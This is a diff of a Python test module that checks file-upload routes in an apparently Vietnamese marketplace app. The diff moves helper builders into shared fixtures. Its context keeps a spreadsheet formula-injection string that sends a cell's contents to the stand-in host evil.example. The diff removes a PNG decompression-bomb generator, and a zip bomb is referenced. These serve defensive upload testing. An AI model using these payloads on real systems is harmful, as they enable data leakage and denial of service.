@@ -6,17 +6,16 @@ A new form with a FileField must get an entry here (`test_every_upload_field_is_
 
 import csv
 import io
-import struct
 import zipfile
-import zlib
 from collections.abc import Callable
 from dataclasses import dataclass, field
 
-from fpdf import FPDF
 from openpyxl import Workbook
 from PIL import Image
 from sqlalchemy import select
 
+from tests.awards.conftest import pdf_bytes
+from tests.catalogue.factories import png_bomb
 from tests.catalogue.import_fixtures import tax_code
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
@@ -28,24 +27,6 @@ def jpeg() -> bytes:
     buffer = io.BytesIO()
     image.save(buffer, "JPEG", quality=85)
     return buffer.getvalue()
-
-
-def pdf() -> bytes:
-    document = FPDF()
-    document.add_page()
-    document.set_font("helvetica", size=12)
-    document.cell(40, 10, "Giay chung nhan dang ky kinh doanh")
-    return bytes(document.output())
-
-
-def png_bomb(width=20_000, height=20_000) -> bytes:
-    """A tiny PNG whose header promises 400 megapixels (compressed zeros)."""
-    def chunk(kind: bytes, body: bytes) -> bytes:
-        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
-
-    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    rows = zlib.compress(b"\x00" * (width + 1) * 64, 9)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
 
 
 def zip_bomb() -> bytes:
@@ -232,10 +213,10 @@ UPLOAD_ROUTES = [
                 "organiser", _statement_valid, lambda: 2 * 1024 * 1024,
                 spreadsheets=lambda text: [(csv_file(_statement_rows(text)), "csv")]),
     UploadRoute("inquiries.post_message", "attachment", ("marketplace.inquiries.forms.MessageForm",),
-                "buyer", lambda: (pdf(), "pdf"), _attachment_limit,
+                "buyer", lambda: (pdf_bytes(), "pdf"), _attachment_limit,
                 data=lambda w: {"body": "Xin gửi bản vẽ mẫu."}),
     UploadRoute("awards.dossier_upload", "file", ("marketplace.awards.forms.DocumentForm",),
-                "producer", lambda: (pdf(), "pdf"), _dossier_limit,
+                "producer", lambda: (pdf_bytes(), "pdf"), _dossier_limit,
                 args=lambda w: {"nomination_id": w.upload_nomination.id},
                 data=lambda w: {"kind": "registration"}),
 ]
